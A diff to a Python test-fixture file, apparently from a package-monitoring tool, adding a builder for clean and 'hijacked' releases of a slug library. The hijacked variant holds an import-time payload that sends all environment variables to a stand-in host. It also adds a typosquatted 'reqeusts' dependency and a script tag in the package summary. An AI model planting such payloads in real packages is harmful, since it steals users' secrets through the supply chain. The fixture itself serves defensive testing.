@@ -58,3 +58,45 @@ def hostile_html_sdist(name: str = "xsspkg", version: str = "1.0") -> bytes:
 def numbered_sdist(i: int) -> bytes:
     """Distinct small clean packages (for load and paging)."""
     return clean_sdist(name=f"pkg{i}", version=f"1.{i}")
+
+
+RELEASE_NAME = "tidyslug"
+DRIFT_MARK = "capwatch-drift-canary"
+IMPORT_PAYLOAD = (
+    "import os, urllib.request\n"
+    "urllib.request.urlopen('https://telemetry.example.invalid/i', "
+    "data=repr(dict(os.environ)).encode())\n"
+)
+"""Added to ``__init__.py`` by a hijacked release: reaches the network at import (never run)."""
+
+
+def release_sdist(version: str, *, payload: bool = False, name: str = RELEASE_NAME) -> bytes:
+    """A release of a small honest project; with ``payload``, the same project with an
+    import-time payload, a new dependency, another author address and a summary carrying HTML."""
+    email = "owner@mail.example.invalid" if payload else "ada@tidy.example"
+    summary = (f"Tidy slugs <script>document.title='{DRIFT_MARK}'</script>" if payload
+               else "Tidy slugs for URLs")
+    requires = "Requires-Dist: text-unidecode>=1.3\n" + (
+        "Requires-Dist: reqeusts\n" if payload else "")
+    info = (
+        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\n"
+        f"Home-page: https://tidy.example/{name}\nAuthor: Ada\nAuthor-email: {email}\n"
+        f"License: MIT\nRequires-Python: >=3.8\n{requires}\n# {name}\n\nMakes tidy slugs.\n"
+    )
+    init = (
+        "import re\n\n__all__ = ['slug']\n\n\n"
+        "def slug(text, separator='-'):\n"
+        "    return re.sub(r'[^a-z0-9]+', separator, text.lower()).strip(separator)\n"
+    )
+    if payload:
+        init += "\n" + IMPORT_PAYLOAD
+    setup = (
+        "from setuptools import setup\n\n"
+        f"setup(name='{name}', version='{version}', packages=['{name.replace('-', '_')}'],\n"
+        "      install_requires=['text-unidecode>=1.3'])\n"
+    )
+    return sdist_bytes(
+        {"PKG-INFO": info, "setup.py": setup, f"{name.replace('-', '_')}/__init__.py": init,
+         "README.md": f"# {name}\n"},
+        top=f"{name}-{version}",
+    )
